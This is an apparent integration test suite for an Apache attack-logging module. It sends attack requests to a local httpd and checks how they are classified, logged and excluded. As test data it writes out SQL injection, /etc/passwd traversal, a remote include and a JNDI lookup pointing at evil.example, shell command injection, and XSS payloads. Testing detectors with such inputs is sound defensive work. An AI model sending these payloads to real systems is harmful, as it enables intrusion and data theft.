"""mod_logwatch in a real httpd, under the event and prefork MPMs.

Run:  LW_BUILDDIR=/path/to/build LW_SRCDIR=/path/to/src \
      /usr/bin/python3 -m pytest -q test/integration
"""
import concurrent.futures
import json
import os
import re
import subprocess
import time

import pytest

import lwhttpd

# The seed's nine requests, in file order, and the category each must get.
SEED_CATEGORIES = ["sqli"] + ["lfi"] * 5 + ["rfi"] * 3

CANARY_ID = 4000000001

# Threshold events share the attack log; these tests count the
# per-request records.
ATTACK = lwhttpd.is_attack


def attacks(recs):
    return [r for r in recs if ATTACK(r)]


def canary_rules(word):
    return f"""# integration-test rule: flags ?q={word}
rule {CANARY_ID}
  category  probe
  severity  high
  msg       integration-test canary
  target    args
  literal   {word}
  pattern   {word}
  match     /canary?q={word}
  nomatch   /canary?q=hello
"""


def by_request(recs):
    return {"%s %s %s" % (r.get("method"), r.get("uri"), r.get("protocol")): r
            for r in recs}


def access_lines(h, path=None):
    with open(path or h.access_log, encoding="latin-1") as f:
        return [l.rstrip("\n") for l in f]


def test_seed_replay(httpd, seed):
    statuses = httpd.replay_seed(seed)
    assert statuses == [s["status"] for s in seed] == [500] * 9
    httpd.wait_records(len(seed), pred=ATTACK)
    time.sleep(0.3)                       # nothing more may come
    recs = attacks(httpd.records())
    assert len(recs) == len(seed), [r.get("uri") for r in recs]
    got = by_request(recs)

    # the access log's UNIQUE_ID for each request line
    uid = {}
    for line in access_lines(httpd):
        m = re.search(r'"([^"]*)" \d{3} \S+ "[^"]*" "[^"]*" (\S+) "([^"]*)"$',
                      line)
        assert m, line
        uid[m.group(1)] = (m.group(2), m.group(3))

    for s, cat in zip(seed, SEED_CATEGORIES):
        rec = got.get(s["request_line"])
        assert rec is not None, "no record for " + s["request_line"]
        lwhttpd.check_record(rec)
        assert cat in rec["categories"], (s["request_line"], rec)
        assert rec["client"] == s["client"]
        assert rec["peer"] == "127.0.0.1"
        assert rec["vhost"] == s["vhost"]
        assert rec["port"] == httpd.port
        assert rec["status"] == 500 and rec["verdict"] == "error"
        assert rec["user_agent"] == s["user_agent"]
        assert rec["severity"] in ("low", "medium", "high", "critical")
        assert rec["score"] >= 3
        assert all(r["category"] in rec["categories"] or r["category"] == "tool"
                   for r in rec["rules"]), rec
        # same request as the access log: same id, and the LOGWATCH note
        # (%{LOGWATCH}n) names the record's categories
        req_id, note = uid[s["request_line"]]
        assert rec["request_id"] == req_id
        assert set(note.split()) == set(rec["categories"])

    # CustomLog ... env=LOGWATCH logged exactly the nine
    flagged = access_lines(httpd, httpd.path("logs", "flagged.log"))
    assert len(flagged) == len(seed)
    assert sum("sqli" in r["categories"] for r in recs) >= 1


def _send_benign(h, lines, agents, workers=8):
    def one(i):
        return h.get(lines[i].split()[1], user_agent=agents[i % len(agents)],
                     protocol=lines[i].split()[2], method=lines[i].split()[0])
    with concurrent.futures.ThreadPoolExecutor(workers) as ex:
        return list(ex.map(one, range(len(lines))))


def test_benign_gives_no_record(httpd, seed):
    lines = lwhttpd.benign_request_lines(1000)
    assert len(lines) == 1000
    agents = lwhttpd.user_agents()
    statuses = _send_benign(httpd, lines, agents)
    assert all(s is not None for s in statuses)
    # a last, known attack: once its record is there, every earlier
    # request has been logged too
    httpd.replay_seed(seed[:1])
    assert httpd.wait_for(lambda r: r["client"] == seed[0]["client"])
    recs = [r for r in httpd.records() if r["client"] != seed[0]["client"]]
    assert recs == [], "benign requests flagged:\n" + "\n".join(
        "%s %s %s" % (r["uri"], r["categories"],
                      [(x["id"], x.get("excerpt")) for x in r["rules"]])
        for r in recs)
    st = [l for l in access_lines(httpd, httpd.path("logs", "flagged.log"))]
    assert len(st) == 1


def test_exclude_in_location(httpd, seed):
    loud = seed[3]["request_line"].split()[1]      # an lfi request
    # learn what it triggers
    assert httpd.get("/loud" + loud) == 500
    first = httpd.wait_for(lambda r: r["uri"].startswith("/loud/"))
    assert first is not None
    cats = " ".join(first["categories"])
    ids = " ".join(str(r["id"]) for r in first["rules"])
    httpd.extra = f"""
<Location /bycat>
    LogWatchExclude {cats}
</Location>
<Location /byid>
    LogWatchExclude {ids}
</Location>
<Location /off>
    LogWatch Off
</Location>
"""
    httpd.write_conf()
    httpd.graceful()
    for prefix in ("/bycat", "/byid", "/off", "/loud2"):
        assert httpd.get(prefix + loud) == 500
    assert httpd.wait_for(lambda r: r["uri"].startswith("/loud2/"))
    time.sleep(0.3)
    uris = [r["uri"] for r in attacks(httpd.records())]
    assert not [u for u in uris if u.startswith(("/bycat", "/byid", "/off"))]
    assert len(uris) == 2
    # the exclusion holds only where it is configured: in a vhost, same
    flagged = access_lines(httpd, httpd.path("logs", "flagged.log"))
    assert len(flagged) == 2


BAD_RULES = {
    # name: (file text, the line the error must name)
    "bad_category": ("""# broken on purpose
rule 4000000002
  category  nosuchcategory
  severity  high
  msg       broken
  target    args
  literal   abc
  pattern   abc
  match     /x?q=abc
  nomatch   /x?q=def
""", [3]),
    "bad_pattern": ("""# broken on purpose

rule 4000000003
  category  sqli
  severity  high
  msg       broken
  target    args
  literal   abc
  pattern   abc(unclosed
  match     /x?q=abc
  nomatch   /x?q=def
""", [9, 3]),
    "fails_own_example": ("""rule 4000000004
  category  sqli
  severity  high
  msg       broken
  target    args
  literal   abc
  pattern   abc
  match     /x?q=abc
  nomatch   /x?q=xabcx
""", [9, 1]),
}


@pytest.mark.parametrize("case", sorted(BAD_RULES))
def test_bad_rules_fail_configtest(httpd_factory, case):
    text, lines = BAD_RULES[case]
    h = httpd_factory(start=False)
    bad = h.path("conf", "broken.rules")
    with open(bad, "w") as f:
        f.write(text)
    ok = h.configtest()
    assert ok.returncode == 0, ok.stderr
    h.signatures.append(bad)
    h.write_conf()
    p = h.configtest()
    out = p.stdout + p.stderr
    assert p.returncode != 0, out
    m = re.search(re.escape(bad) + r":(\d+):\s*\S", out)
    assert m, "error does not name %s:LINE: %s" % (bad, out)
    assert int(m.group(1)) in lines, out
    # and httpd refuses to start with it
    s = h.run("-k", "start")
    time.sleep(0.2)
    assert s.returncode != 0 or h.pid() is None or not h._port_open()


def test_piped_destination(httpd_factory, seed):
    # "|$": through the shell (its redirection), as CustomLog does
    h = httpd_factory(log='|$/bin/cat >> "@ROOT@/logs/piped.log"')
    piped = h.path("logs", "piped.log")
    h.replay_seed(seed)
    recs = h.wait_records(len(seed), path=piped, pred=ATTACK)
    assert len(recs) == len(seed)
    for r in recs:
        lwhttpd.check_record(r)
    assert sorted(r["client"] for r in recs) == sorted(s["client"] for s in seed)
    assert all(len(l) + 1 <= 4096 for l in h.lines(piped))
    assert not os.path.exists(h.attack_log)


def test_piped_destination_runs_without_a_shell(httpd_factory, seed):
    """"|prog args" runs prog directly, as httpd 2.4 runs CustomLog's and
    ErrorLog's pipes: no shell sees the arguments ("||prog" is the same;
    "|$cmd" asks for a shell)."""
    for prefix in ("|", "||"):
        h = httpd_factory(start=False,
                          log=prefix + "@ROOT@/rec.sh ;touch @ROOT@/logs/shell-ran")
        script = h.path("rec.sh")
        with open(script, "w") as f:
            f.write('#!/bin/sh\n'
                    'printf "%s\\n" "$@" > "$(dirname "$0")/logs/args"\n'
                    'exec /bin/cat >> "$(dirname "$0")/logs/piped.log"\n')
        os.chmod(script, 0o755)
        h.start()
        piped = h.path("logs", "piped.log")
        h.replay_seed(seed[:2])
        recs = h.wait_records(2, path=piped, pred=ATTACK)
        assert len(recs) == 2, prefix
        assert not os.path.exists(h.path("logs", "shell-ran")), prefix
        with open(h.path("logs", "args")) as f:
            assert f.read().split("\n")[0] == ";touch", prefix
        h.stop()


def test_graceful_restart_reloads(httpd_factory, seed):
    h = httpd_factory(start=False)
    local = h.path("conf", "local.rules")
    with open(local, "w") as f:
        f.write(canary_rules("lwcanaryone"))
    h.signatures.append(local)
    h.write_conf()
    h.start()
    gen = h.generation()
    assert gen >= 1
    h.get("/canary?q=lwcanaryone")
    assert h.wait_for(lambda r: r["uri"] == "/canary?q=lwcanaryone"
                      and any(x["id"] == CANARY_ID for x in r["rules"]))

    with open(local, "w") as f:
        f.write(canary_rules("lwcanarytwo"))
    h.graceful()
    assert h.generation() == gen + 1
    # new children serve with the new set
    rec = None
    for _ in range(20):
        h.get("/canary?q=lwcanarytwo")
        rec = h.wait_for(lambda r: r["uri"] == "/canary?q=lwcanarytwo",
                         timeout=0.5)
        if rec:
            break
    assert rec and any(x["id"] == CANARY_ID for x in rec["rules"])
    n = len(attacks(h.records()))
    h.get("/canary?q=lwcanaryone")
    h.replay_seed(seed)
    h.wait_records(n + len(seed), pred=ATTACK)
    time.sleep(0.3)
    recs = attacks(h.records())
    assert len(recs) == n + len(seed), [r["uri"] for r in recs[n:]]
    assert not [r for r in recs[n:] if r["uri"] == "/canary?q=lwcanaryone"]

    # several more restarts in a row, still recording
    for _ in range(3):
        h.graceful()
    h.replay_seed(seed[:1])
    assert len(h.wait_records(len(recs) + 1, pred=ATTACK)) == len(recs) + 1


def test_records_valid_json(httpd, seed):
    hostile = [
        # bytes outside ASCII, quotes and backslashes in the target
        b'GET /a.php?id=1\'+UNION+SELECT+"\\x",\xff\xfe\x80 HTTP/1.1',
        # a target close to the request-line limit
        b"GET /long.php?q=" + b"A" * 6000
        + b"&id=1+UNION+SELECT+1,2,3-- HTTP/1.1",
        # HTTP/0.9: no protocol
        b"GET /x.php?f=../../../../../../etc/passwd",
        # core answers 400 (path above the root): half-processed request
        b"GET /../../../../../../etc/passwd HTTP/1.1",
        # lowercase method, odd spacing
        b"get  /x.php?page=http://evil.example/shell.txt?  HTTP/1.0",
    ]
    for line in hostile:
        h = [("Host", "localhost"),
             ("User-Agent", 'sqlmap/1.5 "quoted" \\back\\ \xe9t\xe9'),
             ("Referer", "http://x/?q=<script>alert(1)</script>")]
        httpd.request(line, h)
    httpd.replay_seed(seed)
    recs = httpd.wait_for(lambda r: r["client"] == seed[-1]["client"])
    time.sleep(0.5)
    lines = httpd.lines()
    recs = httpd.records()                  # json.loads every line
    assert len(recs) >= len(seed) + 2, [r["uri"][:60] for r in recs]
    for line, rec in zip(lines, recs):
        assert len(line) + 1 <= 4096
        assert line.decode("ascii")         # ASCII only
        lwhttpd.check_record(rec)
    uris = [r["uri"] for r in recs]
    # the non-ASCII bytes are written as \xHH text, as the access log does
    assert any("\\xff\\xfe\\x80" in u for u in uris), uris
    # the long target was cut with a marker, never the structure
    longs = [r for r in recs if r["uri"].startswith("/long.php")]
    assert longs and all(len(r["uri"]) < 4096 for r in longs)


ONE_PROCESS = {
    "prefork": "StartServers 1\nMinSpareServers 1\nMaxSpareServers 1\n"
               "MaxRequestWorkers 1\nServerLimit 1\n",
    "event": "StartServers 1\nServerLimit 1\nThreadsPerChild 4\n"
             "MinSpareThreads 1\nMaxSpareThreads 4\nMaxRequestWorkers 4\n",
}


def test_record_errors_rate_bounded(httpd_factory, mpm):
    h = httpd_factory(extra="LogWatchRecordErrors On\n",
                      mpm_conf=ONE_PROCESS[mpm])
    t0 = time.time()
    sent = 40
    for i in range(sent):
        assert h.get("/broken.php?page=%d" % i) == 500
    assert h.get("/index.html") == 200          # not an error: no record
    assert h.get("/nothere.html") == 404        # not an error: no record
    h.replay_seed(lwhttpd.seed_requests()[:1])  # an attack, last
    assert h.wait_for(lambda r: "sqli" in r["categories"])
    spent = time.time() - t0
    recs = h.records()
    errs = [r for r in recs if r["categories"] == ["server_error"]]
    assert all(r["uri"].startswith("/broken.php") for r in errs)
    assert all(r["status"] == 500 and r["verdict"] == "error"
               and r["rules"] == [] for r in errs)
    # at most 10 a second in the one process; at least the first 10
    per_sec = {}
    for r in errs:
        per_sec[r["time"][:19]] = per_sec.get(r["time"][:19], 0) + 1
    assert max(per_sec.values()) <= 10, per_sec
    assert len(errs) >= min(10, sent)
    assert len(errs) <= 10 * (int(spent) + 2)
    # the LOGWATCH mark is for attacks only
    flagged = access_lines(h, h.path("logs", "flagged.log"))
    assert len(flagged) == 1


def test_failed_writes_never_hurt_requests(httpd_factory, seed):
    # /dev/full: every write fails with ENOSPC
    h = httpd_factory(log="/dev/full")
    for _ in range(3):
        assert h.replay_seed(seed) == [500] * len(seed)
    assert h.get("/index.html") == 200
    deadline = time.time() + 5
    while "LW00009" not in h.error_text() and time.time() < deadline:
        time.sleep(0.05)
    errs = [l for l in h.error_text().splitlines() if "LW00009" in l]
    assert errs, h.error_text()
    # reported at most once a minute (of the clock) per process: the run
    # may straddle a minute's end, so one process may report twice then
    seen = [(re.search(r"\[pid (\d+)", l).group(1),
             re.search(r"^\[\w+ \w+ \d+ (\d+:\d+):", l).group(1))
            for l in errs]
    assert len(seen) == len(set(seen)), errs
    assert "No space left" in errs[0] or "dropped" in errs[0]


def test_inspect_header_and_vhost_log(httpd_factory, seed):
    h = httpd_factory(start=False,
                      # every header is read by default; "none" reads
                      # the named ones only, as the directive once did
                      extra="LogWatchInspectHeader none X-Api-Token\n",
                      vhost_extra={"domain1.com":
                                   '    LogWatchLog "logs/domain1.log"\n'})
    local = h.path("conf", "local.rules")
    with open(local, "w") as f:
        f.write(f"""rule {CANARY_ID}
  category  probe
  severity  high
  msg       integration-test header canary
  target    headers
  literal   lwcanaryhdr
  pattern   lwcanaryhdr
  match     X-Api-Token: lwcanaryhdr
  nomatch   X-Api-Token: hello
""")
    h.signatures.append(local)
    h.write_conf()
    h.start()
    assert h.get("/a", headers=[("X-Other", "lwcanaryhdr")]) == 404
    assert h.get("/b", headers=[("X-Api-Token", "lwcanaryhdr")]) == 404
    rec = h.wait_for(lambda r: r["uri"] == "/b")
    assert rec and rec["rules"][0]["id"] == CANARY_ID
    assert rec["rules"][0]["field"].lower() == "header:x-api-token"
    # domain1.com has its own attack log; the other vhosts inherit the
    # server's
    h.replay_seed(seed)
    d1 = h.wait_records(1, path=h.path("logs", "domain1.log"))
    assert [r["vhost"] for r in d1] == ["domain1.com"]
    rest = h.wait_records(1 + len(seed) - 1, pred=ATTACK)
    assert not [r for r in rest if r["uri"] == "/a"]
    assert sorted(set(r["vhost"] for r in rest)) == ["domain2.com",
                                                     "domain3.com",
                                                     "localhost"]


def _wait_access_lines(h, n, timeout=10.0):
    """mod_log_config writes the access line after mod_logwatch's hook ran
    for the same request: n access lines mean n requests inspected."""
    deadline = time.time() + timeout
    while len(access_lines(h)) < n and time.time() < deadline:
        time.sleep(0.05)
    return access_lines(h)


@pytest.mark.parametrize("off,on", [("LogWatchMinScore 100", "LogWatchMinScore 3"),
                                    ("LogWatch Off", "LogWatch On")])
def test_min_score_and_server_wide_off(httpd_factory, seed, off, on):
    # off for the server, back on in one virtual host
    h = httpd_factory(extra=off + "\n",
                      vhost_extra={"domain3.com": "    %s\n" % on})
    h.replay_seed(seed)
    assert len(_wait_access_lines(h, len(seed))) == len(seed)
    recs = attacks(h.records())
    d3 = [s for s in seed if s["vhost"] == "domain3.com"]
    assert sorted(r["uri"] for r in recs) == sorted(
        s["request_line"].split()[1] for s in d3)
    assert len(access_lines(h, h.path("logs", "flagged.log"))) == len(d3)


def test_shipped_conf_snippet(httpd_factory, seed):
    """conf/logwatch.conf as a2enmod installs it: valid, and its
    LogWatchLog ${APACHE_LOG_DIR}/attack.log receives the records."""
    snippet = os.path.join(lwhttpd.srcdir(), "conf", "logwatch.conf")
    h = httpd_factory(start=False, log="")
    h.extra = ('Define APACHE_LOG_DIR "%s"\nInclude "%s"\n'
               % (h.path("logs"), snippet))
    h.write_conf()
    p = h.configtest()
    assert p.returncode == 0, p.stdout + p.stderr
    h.start()
    h.replay_seed(seed)
    recs = h.wait_records(len(seed), pred=ATTACK)
    assert len(recs) == len(seed)
    with open(os.path.join(lwhttpd.srcdir(), "conf", "logwatch.load")) as f:
        load = f.read()
    assert re.search(r"^LoadModule logwatch_module \S+/mod_logwatch\.so$",
                     load, re.M), load


def test_live_module_agrees_with_logwatch_scan(httpd, seed):
    """The module classifies what the access log's %r shows: logwatch-scan
    on that access log gives the same records."""
    scan = os.path.join(lwhttpd.builddir(), "logwatch-scan")
    if not os.access(scan, os.X_OK):
        pytest.skip("logwatch-scan not built")
    httpd.replay_seed(seed)
    extra = ["/q.php?id=1%27%20or%20%271%27=%271", "/x?q=%3Cscript%3Ealert(1)%3C/script%3E",
             "/cgi-bin/a.cgi?c=;cat%20/etc/passwd", "/.env", "/index.html"]
    for t in extra:
        httpd.get(t, user_agent="sqlmap/1.7")
    n = len(seed) + len(extra)
    assert len(_wait_access_lines(httpd, n)) == n
    live = attacks(httpd.records())
    fmt = lwhttpd.ACCESS_FORMAT.replace('\\"', '"')
    p = subprocess.run([scan, "--format", fmt, "--default-signatures",
                        lwhttpd.default_signatures(), httpd.access_log],
                       capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    offline = [json.loads(l) for l in p.stdout.splitlines()]

    def key(r):
        return (r["request_id"], r["client"], r["vhost"], r["status"],
                tuple(sorted(r["categories"])),
                tuple(sorted(x["id"] for x in r["rules"])), r.get("tool"))
    assert len(live) >= len(seed)
    assert sorted(map(key, live)) == sorted(map(key, offline))


def test_every_attack_recorded_once(httpd_factory):
    """2000 requests from 16 clients, one in five an attack: every attack
    has exactly one record and no record is unaccounted for. A writer that
    loses one record in a hundred (of each process's) fails here, in
    seconds, not only in the long reliability runs."""
    import reliability_load as rl
    h = httpd_factory()
    reqs = rl.build(2000)
    res = rl.send(h.port, reqs, clients=16)
    assert not res["failed"], res["failed"][:10]
    rl.wait_stable(lambda: len(rl.read_lines([h.attack_log], allow_cut=True)))
    recs = rl.parse_lines(rl.read_lines([h.attack_log]))
    chk = rl.check_exactly_once(recs, reqs)
    assert chk["sent"] == 400
    assert chk["missing"] == [], chk["missing"][:20]
    assert chk["duplicated"] == [] and chk["unknown"] == [], chk
    assert chk["logged"] == chk["sent"]


def _padded_user_agent():
    """~8,000 bytes of rule-waking tokens between runs of letters."""
    unit = ("union select sleep load_file script document. ${ <? {{ .. | "
            + "a" * 40 + " ")
    return (unit * (8000 // len(unit) + 1))[:8000]


@pytest.mark.parametrize("where", ["referer", "cookie"])
def test_padded_header_does_not_hide_the_next(httpd, where):
    """A User-Agent that wakes many rules cannot use up the regex work of
    the fields after it: the attack behind 7,000 bytes of padding in the
    Referer or the Cookie is recorded with its own category, and the
    padded User-Agent itself as an evasion (rule 800000)."""
    ua = _padded_user_agent()
    if where == "referer":
        headers = [("Referer", "x" * 7000 + "${jndi:ldap://evil.example/a}")]
        cat = "rce"
    else:
        headers = [("Cookie", "id=-1 UNION SELECT username,password FROM "
                    "users--;p=" + "b" * 7000)]
        cat = "sqli"
    client = "198.51.100.%d" % (7 if where == "referer" else 8)
    assert httpd.get("/", user_agent=ua, xff=client,
                     headers=headers) == 200
    rec = httpd.wait_for(lambda r: r["client"] == client)
    assert rec is not None, "the padded request left no record"
    lwhttpd.check_record(rec)
    assert cat in rec["categories"], rec["rules"]
    ev = [r for r in rec["rules"] if r["id"] == 800000]
    assert ev and ev[0]["category"] == "protocol"
    assert ev[0]["field"] == "user_agent" and ev[0]["detail"]
    # the same attack without the padded User-Agent: flagged the same way
    client2 = client + "0"
    assert httpd.get("/", user_agent="Mozilla/5.0", xff=client2,
                     headers=headers) == 200
    rec2 = httpd.wait_for(lambda r: r["client"] == client2)
    assert rec2 is not None and cat in rec2["categories"]


def test_attack_padded_past_the_inspection_length_is_flagged(httpd_factory):
    """A field longer than LogWatchMaxInspect is read up to the cap only:
    an attack padded past it is never turned clean, the request gets rule
    800000 saying the field's tail was not inspected. A field at the cap
    is inspected whole and stays clean."""
    h = httpd_factory(extra="LogWatchMaxInspect 256\n")
    pad = "a" * 300
    assert h.get("/?q=" + pad + "&id=1%20UNION%20SELECT%20password"
                 "%20FROM%20users--", xff="198.51.100.30") == 200
    rec = h.wait_for(lambda r: r["client"] == "198.51.100.30")
    assert rec is not None, "the padded attack left no record"
    lwhttpd.check_record(rec)
    ev = [r for r in rec["rules"] if r["id"] == 800000]
    assert ev and ev[0]["category"] == "protocol", rec["rules"]
    assert ev[0]["field"] == "query"
    assert "inspection length" in ev[0]["detail"]
    # in a header the rules read: the same
    assert h.get("/", user_agent="Mozilla/5.0 " + pad + " <script>alert(1)"
                 "</script>", xff="198.51.100.31") == 200
    rec = h.wait_for(lambda r: r["client"] == "198.51.100.31")
    assert rec is not None
    assert [r["field"] for r in rec["rules"] if r["id"] == 800000] \
        == ["user_agent"]
    # a benign target at the cap (the uri, 256 bytes): no record (an
    # attack after it shows the log has caught up)
    assert h.get("/?q=" + "a" * 252, xff="198.51.100.32") == 200
    assert h.get("/?id=1%20UNION%20SELECT%20password%20FROM%20users--",
                 xff="198.51.100.33") == 200
    assert h.wait_for(lambda r: r["client"] == "198.51.100.33") is not None
    assert not [r for r in h.records() if r["client"] == "198.51.100.32"]
